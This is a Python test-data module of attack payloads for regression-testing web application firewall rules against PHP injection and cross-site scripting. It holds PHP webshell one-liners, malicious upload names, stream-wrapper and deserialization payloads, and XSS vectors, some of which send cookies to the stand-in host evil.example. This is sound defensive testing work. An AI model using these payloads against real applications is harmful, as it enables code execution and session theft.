"""Blind set "hundredthird": the positive regression tests a twelfth rule author writes for the CRS 3.3.4 PHP and
XSS request-rule titles (paranoia levels 1 and 2), and for the titles CRS 4.x added to the same families, each
payload written as it sits inside a real request.

Angle: for each detection title, the canonical attack the title names, then one test per alternative the title's
family covers (every PHP open tag form, upload extension, ini directive, superglobal, php:// stream, wrapper
scheme, high- and medium-risk function, serialized type, callee shape; every script, event handler, attribute,
URI scheme, IE-filter tag, malformed or UTF-7 encoding, JSFuck atom, global object and template sandbox escape),
then the variants a rule must still catch (quoting, casing, whitespace and comment substitutes, concatenation,
URL and double URL encoding, HTML entities, unicode escapes in JSON). Each value carries the legitimate data a
real request carries around it: a search term, a user id, a file name, a sentence, a CSV cell, a JSON list, the
application's own syntax (PHP CMSs, Java apps, Node APIs, CGI scripts, IIS).

Families and sub-families (one per title):
  php: php-open-tag, php-script-file-upload, php-configuration-directive, php-variables, php-io-stream,
       php-wrapper-scheme, php-high-risk-function-name, php-high-risk-function-call, php-serialized-object,
       php-variable-function-call, php-variable-function-call-string-callee, php-medium-risk-function-name
  xss: xss-libinjection, xss-script-tag-vector, xss-event-handler-vector, xss-attribute-vector,
       xss-javascript-uri-vector, noscript-html-injection, noscript-attribute-injection,
       node-validator-blacklist, ie-xss-941190-style ... ie-xss-941300-object, ie-xss-941330-location-name,
       ie-xss-941340-property-assignment, us-ascii-malformed-encoding, utf7-encoding, jsfuck-hieroglyphy,
       javascript-global-variable, xss-libinjection-pl2, disallowed-html-attributes, html-tag-handler,
       angularjs-template-injection, javascript-method, js-function-without-parentheses

Placements: every payload is sent twice. Once to our real routes: query of /api/users, the admin search form
(csrf_token), JSON of /api/users (string, list or nested field; sometimes with < > & ' as \\u escapes, sometimes
PATCH /api/users/42), a cookie, the User-Agent, the Referer, another header (X-Requested-By, X-File-Name), a
parameter name, an XML body, a multipart field or filename, the URL path. Once the way a WAF regression suite
sends it ("rs-" placements): to paths that are not our routes (/, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter names (foo, var, x, test, id, arg1), as a query
string, a form body, a JSON body, an XML body, a raw form-typed body that is not key=value, a whole raw query
string, a PATH_INFO segment, a multipart filename, or in the User-Agent, Referer, a custom header or a cookie.
Values marked pre-encoded (double URL encoding, raw %BC bytes, CGI query strings) go on the wire as written, and
only into places a server URL-decodes.

The benign half carries the same words innocently, as real users type them: Slack messages and bios about PHP
and front-end work, searches, prose, names and addresses, documentation links, upload file names, browser
User-Agents and Referers, preference cookies, XML and multipart profile updates, REST paths.

Authorship and independence: written from general knowledge of PHP, browsers and the titles alone; no rule,
ruleset regression test, public payload list or other blind set was read. Measured once on unchanged code; the
payloads were not changed after the measurement. Deterministic (a seeded random source for tokens only).
"""

from __future__ import annotations

import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .records import print_records, slack_escape

NAME = "hundredthird"


class R(str):
    """A value already in its wire form (pre-encoded): sent verbatim, only into places a server URL-decodes."""

    __slots__ = ()


# ---------------------------------------------------------------------------------------------------------------
# PHP
# ---------------------------------------------------------------------------------------------------------------

PHP_OPEN_TAG = [
    "profile photo caption<?php echo shell_exec($_GET['cmd']); ?>",
    "Hello team,<?PHP system('id');?>",
    "john.smith<?= `id` ?>",
    "meeting notes: <? passthru(\"uname -a\"); ?>",
    "Greetings <script language=\"php\">system(\"whoami\");</script>",
    "sig: <script language=php>phpinfo();</script>",
    "invoice 2024-113 <?php\n@eval($_POST['x']);",
    "great article! <% system(\"id\"); %>",
    "GIF89a;<?php system($_REQUEST['c']); ?>",
    "Mozilla/5.0 <?php include($_GET['f']); ?>",
    "<?php/**/echo(file_get_contents('/etc/passwd'));",
    "<?pHp\tprint(`ls -la`);",
    R("laptop%253C%253Fphp%2520phpinfo()%253B%253F%253E"),
    R("notebook%3C%3Fphp+system%28%24_GET%5B0%5D%29%3B"),
]

PHP_UPLOAD = [
    "shell.php",
    "avatar.jpg.php",
    "invoice_2024.PhP",
    "cmd.php5",
    "backdoor.phtml",
    "plugin-update.phar",
    "image.php3",
    "report.pht",
    "thumb.php7",
    "resume.php.",
    "profile.php%00.jpg",
    "c99.phps",
    "wp-content/uploads/2024/05/wso.php",
    "UPLOAD.PHP4",
]

PHP_CONFIG = [
    R("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
    R("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"),
    "memory_limit=256M\nallow_url_include=On",
    "allow_url_fopen = On",
    "auto_append_file=/var/www/uploads/avatar.gif",
    "php_value auto_prepend_file \"/tmp/sess_8f3a2b\"",
    "disable_functions=",
    "open_basedir=/",
    "safe_mode=Off",
    "register_globals=on",
    "enable_dl = On",
    "magic_quotes_gpc=off",
    "error_log=/var/www/html/images/log.php",
    "\"timezone\",\"UTC\"\n\"auto_prepend_file\",\"/proc/self/environ\"",
]

PHP_VARIABLES = [
    "test';echo $_SERVER['DOCUMENT_ROOT'];//",
    "search term $_POST[0]",
    "john\";print_r($_COOKIE);//",
    "page 2 var_dump($GLOBALS);",
    "{${$_REQUEST['x']}}",
    "$_FILES['upload']['tmp_name']",
    "nickname $_ENV[\"PATH\"]",
    "1;$_SESSION['is_admin']=1;",
    "$HTTP_RAW_POST_DATA",
    "$HTTP_SERVER_VARS['REMOTE_ADDR']",
    "headers: $http_response_header",
    "$GLOBALS ['_SERVER']['HTTP_HOST']",
    "$_GET [ 'page' ]",
    "$HTTP_COOKIE_VARS",
]

PHP_IO_STREAM = [
    "php://input",
    "php://filter/read=convert.base64-encode/resource=../wp-config.php",
    "PHP://Input",
    "php://stdin",
    "php://output",
    "php://stderr",
    "php://memory",
    "php://temp/maxmemory:1024",
    "php://fd/0",
    "php://filter/string.toupper|string.rot13/resource=config.php",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-decode/resource=php://temp",
    R("php%253A%252F%252Finput"),
    "templates/header.tpl php://filter/resource=index.php",
    "Php://StdOut",
]

PHP_WRAPPER = [
    "zip://uploads/avatar.zip#shell.php",
    "phar://uploads/2024/img.jpg/test.txt",
    "expect://id",
    "glob:///var/www/html/*.php",
    "compress.zlib:///etc/passwd",
    "compress.bzip2://../backups/db.sql.bz2",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "ssh2.exec://deploy:changeme@10.0.0.5:22/id",
    "ssh2.shell://example.org:22/xterm",
    "rar://uploads/archive.rar#shell.php",
    "ogg://uploads/track.ogg",
    R("ZiP%3A%2F%2Ftmp%2Fx.zip%2523a.php"),
    "ssh2.tunnel://example.org:22/127.0.0.1:3306",
    "EXPECT://ls%20-la",
]

PHP_HIGH_FUNC_NAME = [
    "shell_exec",
    "passthru",
    "proc_open",
    "name,email,popen",
    "[\"trim\",\"pcntl_exec\"]",
    "create_function",
    "call_user_func_array",
    "base64_decode",
    "gzinflate",
    "str_rot13",
    "phpinfo",
    "fsockopen",
    "file_put_contents",
    "SHELL_EXEC",
]

PHP_HIGH_FUNC_CALL = [
    "1;system('cat /etc/passwd');",
    "test\");exec (\"whoami\");//",
    "passthru/**/('id')",
    "shell_exec\n(\"ls -la\")",
    "${@eval($_POST[1])}",
    "great post');assert(\"phpinfo()\");//",
    "popen('id','r')",
    "proc_open(\"sh\", [], $p)",
    "file_get_contents(\"/etc/passwd\")",
    "fsockopen(\"203.0.113.5\",4444)",
    "PhpInfo ( )",
    "readfile('../../wp-config.php')",
    "base64_decode('c3lzdGVt')",
    "show_source(__FILE__)",
]

PHP_SERIALIZED = [
    "O:8:\"stdClass\":1:{s:5:\"admin\";b:1;}",
    "a:1:{i:0;O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\\0*\\0socket\";N;}}",
    "O:+4:\"User\":1:{s:7:\"isAdmin\";b:1;}",
    "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
    "O:4:\"Item\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "a:2:{s:4:\"user\";s:5:\"guest\";s:4:\"role\";O:5:\"Admin\":0:{}}",
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":1:{s:9:\"\\0*\\0events\";O:15:\"Faker\\Generator\":0:{}}",
    R("O%3A8%3A%22WP_Theme%22%3A1%3A%7Bs%3A7%3A%22headers%22%3Bs%3A2%3A%22id%22%3B%7D"),
    "s:5:\"theme\";O:9:\"UserPrefs\":1:{s:4:\"lang\";s:2:\"en\";}",
    "O:18:\"Zend_Log_Writer_Mail\":0:{}",
    "x|O:10:\"SessionObj\":1:{s:4:\"user\";s:5:\"admin\";}",
    "O:7:\"Example\":1:{s:3:\"cmd\";s:2:\"id\";}",
    R("O%253A7%253A%2522Example%2522%253A0%253A%257B%257D"),
    "cart=a:1:{i:0;O:6:\"Coupon\":1:{s:5:\"value\";i:100;}}",
]

PHP_VAR_FUNC = [
    "$a=$_GET['f'];$a($_GET['x']);",
    "$_GET['a']($_GET['b'])",
    "order note $func(\"id\")",
    "$f/**/('whoami')",
    "${'_P'.'OST'}['x']($_POST['y'])",
    "$$name(\"ls\")",
    "$x[0]($x[1]);",
    "$cb ( 'phpinfo' )",
    "{$_COOKIE[0]($_COOKIE[1])}",
    "@$_REQUEST['c']($_REQUEST['d']);",
    "$a = \"sys\" . \"tem\"; $a(\"id\");",
    "$fn\t(\"uname -a\")",
    "$_POST[\"x\"] ($_POST[\"y\"])",
]

PHP_VAR_FUNC_STRING = [
    "(\"system\")(\"id\")",
    "('sys'.'tem')('id')",
    "(sy.(st).em)(whoami)",
    "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"(\"id\")",
    "['system'][0]('ls')",
    "(passthru)('cat /etc/passwd');",
    "\"exec\"( \"id\" );",
    "(base64_decode('c3lzdGVt'))('id')",
    "\"\\163\\171\\163\\164\\145\\155\"(\"whoami\")",
    "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id')",
    "('s'.'h'.'e'.'l'.'l'.'_exec')('ls')",
    "strrev('metsys')('id')",
    "(strtolower(\"SYSTEM\"))(\"id\")",
    "'assert' /**/ ('phpinfo()')",
]

PHP_MEDIUM_FUNC_NAME = [
    "chmod",
    "fields=id,name,get_defined_vars",
    "curl_exec",
    "[\"strlen\",\"fwrite\"]",
    "move_uploaded_file",
    "symlink",
    "posix_getpwuid",
    "phpversion",
    "ftp_connect",
    "stream_socket_client",
    "apache_setenv",
    "tempnam",
    "getenv",
    "ini_get",
]

# ---------------------------------------------------------------------------------------------------------------
# XSS
# ---------------------------------------------------------------------------------------------------------------

XSS_LIBINJECTION = [
    "laptop\"><script>alert(document.domain)</script>",
    "red shoes<img src=x onerror=alert(1)>",
    "john'><svg/onload=confirm(1)>",
    "\"><iframe src=\"javascript:alert(1)\">",
    "Hi <body onload=alert('XSS')>",
    "42\" onmouseover=\"alert(1)",
    "see <a href=\"javascript:alert(1)\">click here</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=prompt(1)>",
    "Smith'-alert(1)-'",
    "</textarea><script>alert(1)</script>",
    "<video><source onerror=\"alert(1)\">",
    R("tv%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    "&lt;img src=x onerror=alert(1)&gt;",
]

XSS_SCRIPT_TAG = [
    "blue shoes<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<ScRiPt>prompt(document.cookie)</sCrIpT>",
    "<script\n>alert(1)</script>",
    "Order #5521 <script type=\"text/javascript\">fetch('//evil.example/?c='+document.cookie)</script>",
    "</title><script>alert(1)</script>",
    "<script\t>alert(1)</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    R("Acme%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    "<script src=\"https://cdn.evil.example/hook.js\"></script>",
    "<<script>alert(1);//<</script>",
    "\"Acme Corp\",\"<script>alert(1)</script>\",\"2024\"",
]

XSS_EVENT_HANDLER = [
    "<img src=x onerror=alert(1)>",
    "vacation pics <svg onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover me</div>",
    "<input onfocus=alert(1) autofocus>",
    "<details ontoggle=alert(1) open>",
    "<marquee onstart=alert(1)>news</marquee>",
    "<video src=x onloadstart=alert(1)>",
    "<x onpointerenter=alert(1)>move</x>",
    "<div style=\"animation-name:spin\" onanimationstart=\"alert(1)\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x OnErRoR = \"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<a onauxclick=alert(1)>middle click</a>",
]

XSS_ATTRIBUTE = [
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
    "<form><button formaction=javascript:alert(1)>Submit</button></form>",
    "<html xmlns:xss><?import namespace=\"xss\" implementation=\"//evil.example/x.htc\">",
    "<!DOCTYPE x [<!ENTITY xss SYSTEM \"http://evil.example/x\">]>",
    "<?xml-stylesheet type=\"text/xsl\" href=\"data:text/xml,<x/>\"?>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<isindex action=javascript:alert(1) type=image>",
    "<svg><use xlink:href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x\"/></svg>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<input type=image formaction=javascript:alert(1) src=x>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>X</maction></math>",
]

XSS_JS_URI = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "java\tscript:alert(1)",
    "   javascript:alert(1)",
    "vbscript:msgbox(\"XSS\")",
    "livescript:alert(1)",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style=\"-moz-binding:url(//evil.example/xss.xml#x)\">",
    R("javascript%253Aalert(1)"),
    "jav&#x61;script:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "https://app.example.com/login?next=javascript:alert(document.domain)",
    "<a href=\"javascript&colon;alert(1)\">profile</a>",
]

NOSCRIPT_HTML = [
    "<form action=\"https://evil.example/steal\"><input name=pin>",
    "<iframe src=//evil.example>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<object data=//evil.example/x.swf>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "thanks!<svg/onload=alert(1)>",
    "<img src=\"x:x\" onerror=\"alert(1)\">",
    "Your session expired, <a href=//evil.example/login>log in again</a>",
    "<frameset><frame src=javascript:alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<applet code=Evil.class>",
]

NOSCRIPT_ATTRIBUTE = [
    "john\" onmouseover=\"alert(1)\" x=\"",
    "red\" style=\"x:expression(alert(1))",
    "x' onfocus='alert(1)' autofocus='",
    "\" style=\"-moz-binding:url(//evil.example/x.xml#x)",
    "\" href=\"javascript:alert(1)",
    "\" src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "\" style=\"background-image:url('javascript:alert(1)')",
    "\" style=@import'//evil.example/x.css'",
    "avatar.png\"onerror=\"alert(1)",
    "\"/onload=\"alert(1)",
    "\" formaction=\"javascript:alert(1)",
    "x\" autofocus onfocus=alert(document.domain) y=\"",
    "en-US' onpointerover='alert(1)",
]

NODE_VALIDATOR = [
    "document.cookie",
    "Dana'+document.cookie+'",
    "document.write('<img src=//evil.example/?'+document.cookie+'>')",
    "window.location='//evil.example/?c='+document.cookie",
    "x.innerHTML='<img src=x onerror=alert(1)>'",
    "this.parentNode.removeChild(this)",
    "color:red;-moz-binding:url(x.xml#y)",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "document.location.href=\"//evil.example\"",
    "DOCUMENT.COOKIE",
    "document /**/ .cookie",
    "nice post --> <b>hi</b>",
    "new Image().src='//evil.example/?'+document.cookie",
]

IE_941190 = [
    "<style>body{background:expression(alert(1))}</style>",
    "<STYLE>@import'//evil.example/x.css';</STYLE>",
    "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>",
    "<style>*{-moz-binding:url(//evil.example/x.xml#x)}</style>",
    "<style type=\"text/css\">@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    "<style>div{width:expression(alert(1))}</style>",
    "<STYLE TYPE=\"text/javascript\">alert(1);</STYLE>",
    "<style/onload=alert(1)>",
    "<style>@import url(javascript:alert(1));</style>",
    "<style>a{behavior:url(//evil.example/x.htc)}</style>",
    "theme: <style>\n  body { x: expression(alert(1)) }\n</style>",
    "<style>div{background:url(\"j&#97;vascript:alert(1)\")}</style>",
]

IE_941200 = [
    "<v:vmlframe src=\"//evil.example/x.vml#xss\"></v:vmlframe>",
    "<xss:vmlframe src=\"//evil.example/x.vml#xss\">",
    "<vmlframe src=//evil.example/frame.vml>",
    "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"x.vml#a\">",
    "<V:VMLFRAME SRC=\"//evil.example/a.vml#b\">",
    "report<v:vmlframe/src=\"data:,x\">",
    "<a:vmlframe\nsrc=\"//evil.example/x.vml#y\">",
    "<v:vmlframe src='//evil.example/x.vml' style='behavior:url(#default#VML)'>",
]

IE_941210 = [
    "j&#97;vascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "java\nscript:alert(1)",
    "javas&#99;ript:alert(document.domain)",
    "jav&#x09;ascript:alert(1)",
    "&#106avascript:alert(1)",
    "ja&#x76;ascript&#x3a;alert(1)",
    "j\\u0061vascript:alert(1)",
    "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
    "java&#0000009script:alert(1)",
]

IE_941220 = [
    "vbscr&#105;pt:msgbox(1)",
    "v&#98;script:MsgBox(\"XSS\")",
    "vb\tscript:msgbox(1)",
    "VBSCRIPT:Execute(\"MsgBox 1\")",
    "&#x76;bscript:msgbox(1)",
    "vbs&#x63;ript:alert(1)",
    "vb\nscript:msgbox(document.cookie)",
    "<img src=\"vbscr&#x69;pt:msgbox(1)\">",
    "vbscript&#58;msgbox(1)",
    "  VbScRiPt:MsgBox(1)",
]

IE_941230 = [
    "<embed src=\"//evil.example/x.swf\">",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\">",
    "<embed code=//evil.example/x.swf allowscriptaccess=always>",
    "<embed/src=//evil.example/movie.swf>",
    "video: <embed type=\"application/x-shockwave-flash\" src=\"x.swf\">",
    "<eMbEd\nsrc=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<embed allowscriptaccess=always src=\"//evil.example/x.swf\"></embed>",
    "<embed pluginspage=//evil.example src=x>",
]

IE_941240 = [
    "<?import namespace=\"t\" implementation=\"#default#time2\">",
    "<t:set attributeName=\"innerHTML\" to=\"XSS&lt;SCRIPT DEFER&gt;alert(1)&lt;/SCRIPT&gt;\">",
    "<html xmlns:t=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\">",
    "<IMPORT implementation=\"//evil.example/x.htc\">",
    "<import namespace=x implementation=//evil.example/x.htc>",
    "<?IMPORT NAMESPACE=\"X\" IMPLEMENTATION=\"x.htc\">",
    "<div style=\"behavior:url(#default#time2)\">",
    "<?import\nimplementation=\"#default#VML\" namespace=\"v\">",
    "<import\timplementation = \"//evil.example/y.htc\">",
]

IE_941250 = [
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
    "<meta http-equiv=\"Set-Cookie\" content=\"USERID=<SCRIPT>alert(1)</SCRIPT>\">",
    "<meta http-equiv=refresh content=\"0; url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<meta content=\"0;url=//evil.example\" http-equiv=\"refresh\">",
    "<META/HTTP-EQUIV=\"refresh\"/CONTENT=\"0;url=//evil.example\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
    "<meta\nhttp-equiv=\"refresh\" content=\"1;url=//evil.example/phish\">",
    "title<meta http-equiv='X-UA-Compatible' content='IE=7'>",
    "<MeTa HtTp-EqUiV=rEfReSh CoNtEnT=\"0;URL=//evil.example\">",
]

IE_941260 = [
    "<meta charset=\"UTF-7\">",
    "<meta charset=x-mac-farsi>",
    "<META CHARSET=\"ISO-2022-JP\">",
    "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-7\">",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<meta\tcharset='x-imap4-modified-utf7'>",
    "<meta/charset=\"shift_jis\">",
    "about me<meta charset=UTF-16BE>",
    "<MeTa ChArSeT=\"utf-7\"/>",
]

IE_941270 = [
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    "<LINK REL=\"import\" HREF=\"//evil.example/x.html\">",
    "<link href=//evil.example/x.css rel=stylesheet>",
    "<link rel=prefetch href=\"//evil.example/track\">",
    "<link/rel=stylesheet/href=//evil.example/y.css>",
    "bio<link rel=\"icon\" href=\"data:text/html,<script>alert(1)</script>\">",
    "<LiNk\nhref=\"//evil.example/x.css\" rel=\"stylesheet\">",
    "<link rel=\"preload\" as=\"script\" href=\"//evil.example/a.js\">",
    "<link rel=import href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
]

IE_941280 = [
    "<base href=\"javascript:alert(1)//\">",
    "<BASE HREF=\"//evil.example/\">",
    "<base target=_blank href=\"//evil.example/\">",
    "<base/href=//evil.example>",
    "company<base href=\"https://evil.example/assets/\">",
    "<BaSe\nhref=\"//evil.example\">",
    "<base href='//evil.example/' />",
    "<base href=data:text/html,x>",
]

IE_941290 = [
    "<applet code=\"Evil.class\" codebase=\"//evil.example/\"></applet>",
    "<APPLET ARCHIVE=\"//evil.example/x.jar\" CODE=\"Main\">",
    "<applet src=\"//evil.example/a.jar\">",
    "<applet object=\"evil.ser\">",
    "plugin: <applet code=x width=1 height=1>",
    "<ApPlEt\ncode=Exploit.class>",
    "<applet/code=//evil.example/x>",
    "<applet codebase=\"javascript:alert(1)\">",
]

IE_941300 = [
    "<object data=\"javascript:alert(1)\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"//evil.example/x.sct\"></OBJECT>",
    "<object classid=\"clsid:D27CDB6E-AE6D-11cf-96B8-444553540000\">",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<object type=application/x-shockwave-flash data=//evil.example/x.swf>",
    "<object codebase=\"//evil.example/x.cab\">",
    "<ObJeCt\ndata=\"//evil.example/x.html\">",
    "files<object/data=//evil.example/x>",
    "<object type=\"image/svg+xml\" data=\"//evil.example/x.svg\"></object>",
]

IE_941330 = [
    "\";location='javascript:alert(1)';//",
    "x';location.href='//evil.example';'",
    "';name='alert(1)';eval(name);'",
    "Dana\"-(location=\"javascript:alert(1)\")-\"",
    "';document.location='//evil.example/?'+document.cookie;//",
    "'; window.name = 'xss'; //",
    "\" onerror=\\u006Cocation='//evil.example'",
    "'+{valueOf:location='//evil.example'}+'",
    "\";top.location = \"//evil.example\";\"",
    "' in location='//evil.example'",
    "\"; \\u006Eame='x'; \"",
]

IE_941340 = [
    "\";document.body.innerHTML='<b>pwned</b>';//",
    "'-(window.onerror=alert)-'",
    "x\";window.location.href=\"//evil.example\";\"",
    "' ;top.frames.location='//evil.example'",
    "'/document.domain='example.com'",
    "search\";self.x.y=1;//",
    "\"; document.forms[0].action = \"//evil.example\"; \"",
    "');new Image().src='//evil.example/?'+document.cookie;('",
    "'|document.body.style.display='none'|'",
    "\"%x.constructor.prototype.y=1//",
]

US_ASCII = [
    R("%BCscript%BEalert(%A2XSS%A2)%BC/script%BE"),
    R("laptop%BCimg%20src=x%20onerror=alert(1)%BE"),
    R("%BCsvg%20onload=alert(1)%BE"),
    R("%BC/title%BE%BCscript%BEalert(1)%BC/script%BE"),
    R("%BCscript%BEdocument.write(1)%BC%2Fscript%BE"),
    R("x%BCiframe%20src=javascript:alert(1)%BE"),
    R("%bcscript%bealert(1)%bc/script%be"),
    "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
    "name\u00bcimg src=x onerror=alert(1)\u00be",
    R("%BCbody%20onload=alert(1)%BE"),
]

UTF7 = [
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-img src=x onerror=alert(1)+AD4-",
    "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)+ADw-/script+AD4-",
    "\"+AD4APA-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-svg onload+AD0-alert(1)+AD4-",
    "+ADw-/title+AD4-+ADw-script+AD4-alert(document.cookie)+ADw-/script+AD4-",
    "Acme +ADw-SCRIPT+AD4-alert('XSS')+ADw-/SCRIPT+AD4-",
    R("%2BADw-script%2BAD4-alert(1)%2BADw-%2Fscript%2BAD4-"),
    "+ACIAPgA8-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-iframe src+AD0-javascript:alert(1)+AD4-",
]

JSFUCK = [
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
    "(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[!+[]+!+[]+!+[]]",
    "(!![]+[])[+!+[]]",
    "[+!+[]]+[+[]]",
    "(+[![]]+[])[+!+[]]",
    "[] [ (![] + []) [+[]] ]",
    "$=~[];$={___:++$,$$$$:(![]+\"\")[$],__$:++$}",
    "(![]+\"\")[+!+[]]+({}+\"\")[+!+[]]",
    "comment: []+!![]+[![]]+(![]+[])[+[]]",
    "[][[]]+[]",
    "(+(+!+[]+(!+[]+[])[!+[]+!+[]+!+[]]+[+!+[]]+[+[]]+[+[]])+[])[!+[]+!+[]]",
    "{}+[]+(![]+[])",
]

JS_GLOBAL = [
    "window['alert'](1)",
    "self[\"al\"+\"ert\"](document.domain)",
    "top['eval']('alert(1)')",
    "this[\"alert\"](1)",
    "globalThis[\"fetch\"](\"//evil.example\")",
    "parent['alert'](1)",
    "frames[\"alert\"](1)",
    "window /*x*/ ['alert'](1)",
    "self[/*foo*/\"alert\"](1)",
    "document['cookie']",
    "window\n[\"alert\"](1)",
    "top[8680439..toString(30)](1)",
    "Dana\";window[atob('YWxlcnQ=')](1);//",
    "content['alert'](1)",
]

XSS_LIBINJECTION_PL2 = [
    "https://www.google.com/search?q=\"><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "https://app.example.com/'><iframe src=javascript:alert(1)>",
    "<body onload=alert(document.cookie)>",
    "x'><details open ontoggle=alert(1)>",
    "https://partner.example.net/ref?id=<script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=confirm(1)>",
]

DISALLOWED_ATTR = [
    "<img dynsrc=\"javascript:alert(1)\">",
    "<img lowsrc=javascript:alert(1)>",
    "<table background=\"javascript:alert(1)\">",
    "<div datasrc=#xss datafld=a dataformatas=html></div>",
    "<p style=\"color:red;background:url(//evil.example/x)\">hi</p>",
    "<button formaction=\"//evil.example/steal\">Save</button>",
    "<form action=\"//evil.example/collect\"><input name=q></form>",
    "<iframe srcdoc=\"<img src=x onerror=alert(1)>\">",
    "<video poster=\"javascript:alert(1)\">",
    "<object codebase=\"//evil.example/\" classid=\"clsid:1\">",
    "<td background=//evil.example/a.png>",
    "<span STYLE = \"position:fixed;top:0;left:0;width:100%;height:100%\">",
]

TAG_HANDLER = [
    "<html><body>",
    "<body background=\"javascript:alert(1)\">",
    "<frameset onload=alert(1)>",
    "comments <iframe src=//evil.example></iframe>",
    "<form id=x><input type=submit>",
    "<input type=\"text\" value=\"x\" onfocus=alert(1)>",
    "<textarea>x</textarea>",
    "<select onchange=alert(1)><option>1</option></select>",
    "<marquee>breaking news</marquee>",
    "<bgsound src=\"//evil.example/a.wav\">",
    "<layer src=\"//evil.example/x.html\"></layer>",
    "<ilayer src=//evil.example>",
    "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>",
    "<keygen autofocus onfocus=alert(1)>",
]

ANGULAR = [
    "{{constructor.constructor('alert(1)')()}}",
    "Dana {{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{toString().constructor.constructor('alert(1)')()}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{$eval.constructor('alert(1)')()}}",
    "{{7*7}}",
    "{{ 1337 * 1337 }}",
    "<div ng-app ng-csp>{{$event.path|orderBy:'(z=alert)(1)'}}</div>",
    "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,alert(1),a')}}",
    "search: {{constructor.constructor(\"fetch('//evil.example/'+document.cookie)\")()}}",
    "{{ 'x'.constructor.fromCharCode(97) }}",
]

JS_METHOD = [
    "eval('al'+'ert(1)')",
